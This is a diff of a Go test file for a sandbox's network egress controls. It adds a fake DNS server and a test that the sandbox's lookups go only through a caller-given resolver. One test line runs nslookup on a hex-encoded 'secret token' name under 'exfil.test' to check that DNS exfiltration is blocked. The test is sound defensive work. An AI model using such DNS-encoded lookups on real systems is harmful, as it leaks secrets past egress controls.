@@ -2,16 +2,21 @@ package sandbox
 
 import (
 	"context"
+	"errors"
 	"fmt"
 	"net"
 	"net/http"
 	"net/netip"
 	"os"
 	"runtime"
+	"slices"
+	"strings"
 	"sync"
 	"sync/atomic"
 	"testing"
 	"time"
+
+	"golang.org/x/net/dns/dnsmessage"
 )
 
 // The egress stack against code in the sandbox that opens flows as fast
@@ -164,5 +169,108 @@ func TestEgressHostOwnAddress(t *testing.T) {
 	out, err = allowed.CommandContext(ctx, "wget", "-q", "-O", "-", "http://"+ln.Addr().String()+"/").CombinedOutput()
 	if err != nil || string(out) != "the host's own service" {
 		t.Errorf("allowed %v: %q, %v", host, out, err)
+	}
+}
+
+// fakeNameserver answers DNS on the host's loopback: A 192.0.2.10 for
+// svc.test, NXDOMAIN for every other name; it records the names asked.
+func fakeNameserver(t *testing.T) (addr string, asked func() []string) {
+	t.Helper()
+	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { pc.Close() })
+	var mu sync.Mutex
+	var names []string
+	go func() {
+		buf := make([]byte, 1500)
+		for {
+			n, from, err := pc.ReadFrom(buf)
+			if err != nil {
+				return
+			}
+			var p dnsmessage.Parser
+			h, err := p.Start(buf[:n])
+			if err != nil {
+				continue
+			}
+			q, err := p.Question()
+			if err != nil {
+				continue
+			}
+			mu.Lock()
+			names = append(names, q.Name.String())
+			mu.Unlock()
+			resp := dnsmessage.Header{ID: h.ID, Response: true, RCode: dnsmessage.RCodeNameError}
+			if q.Name.String() == "svc.test." {
+				resp.RCode = dnsmessage.RCodeSuccess
+			}
+			b := dnsmessage.NewBuilder(nil, resp)
+			b.StartQuestions()
+			b.Question(q)
+			if resp.RCode == dnsmessage.RCodeSuccess && q.Type == dnsmessage.TypeA {
+				b.StartAnswers()
+				b.AResource(dnsmessage.ResourceHeader{Name: q.Name, Class: dnsmessage.ClassINET, TTL: 60}, dnsmessage.AResource{A: [4]byte{192, 0, 2, 10}})
+			}
+			out, err := b.Finish()
+			if err == nil {
+				pc.WriteTo(out, from)
+			}
+		}
+	}()
+	return pc.LocalAddr().String(), func() []string {
+		mu.Lock()
+		defer mu.Unlock()
+		return slices.Clone(names)
+	}
+}
+
+// resolverAt is a Go resolver that asks the nameserver at addr, or, with
+// addr empty, refuses to ask any.
+func resolverAt(addr string) *net.Resolver {
+	return &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
+		if addr == "" {
+			return nil, errors.New("no nameserver for this sandbox")
+		}
+		var d net.Dialer
+		return d.DialContext(ctx, network, addr)
+	}}
+}
+
+// TestEgressDNSResolver: the sandbox's DNS queries are answered by the
+// resolver WithDNSResolver gives, not the host program's: one that asks a
+// nameserver of the caller's resolves through it; one that asks none
+// gives the sandbox no names, and nothing the sandbox spells in a name
+// reaches the host's resolver (standing in for it here: the default
+// resolver, pointed at a nameserver of the test's).
+func TestEgressDNSResolver(t *testing.T) {
+	hostNS, hostAsked := fakeNameserver(t)
+	savedGo, savedDial := net.DefaultResolver.PreferGo, net.DefaultResolver.Dial
+	net.DefaultResolver.PreferGo, net.DefaultResolver.Dial = true, resolverAt(hostNS).Dial
+	t.Cleanup(func() { net.DefaultResolver.PreferGo, net.DefaultResolver.Dial = savedGo, savedDial })
+	callerNS, callerAsked := fakeNameserver(t)
+
+	refuse := func(ctx context.Context, network, addr string) (net.Conn, error) {
+		return nil, fmt.Errorf("%s %s: refused", network, addr)
+	}
+	inst := egressInstance(t, WithDialer(refuse), WithDNSResolver(resolverAt(callerNS)))
+	out, err := inst.Command("busybox", "nslookup", "svc.test", "10.0.2.2").CombinedOutput()
+	if err != nil || !strings.Contains(string(out), "192.0.2.10") || !slices.Contains(callerAsked(), "svc.test.") {
+		t.Errorf("nslookup svc.test through the caller's resolver: %v\n%s\nthe caller's nameserver was asked %q", err, out, callerAsked())
+	}
+
+	secret := "73656372657420746f6b656e.exfil.test"
+	closed := egressInstance(t, WithDialer(refuse), WithDNSResolver(resolverAt("")))
+	if out, err := closed.Command("busybox", "nslookup", secret, "10.0.2.2").CombinedOutput(); err == nil {
+		t.Errorf("nslookup with a resolver that asks no nameserver succeeded:\n%s", out)
+	}
+	for _, name := range append(hostAsked(), callerAsked()...) {
+		if strings.Contains(name, "exfil") {
+			t.Errorf("the sandbox's name %q reached a nameserver", name)
+		}
+	}
+	if names := hostAsked(); len(names) != 0 {
+		t.Errorf("the host's resolver was asked %q", names)
 	}
 }
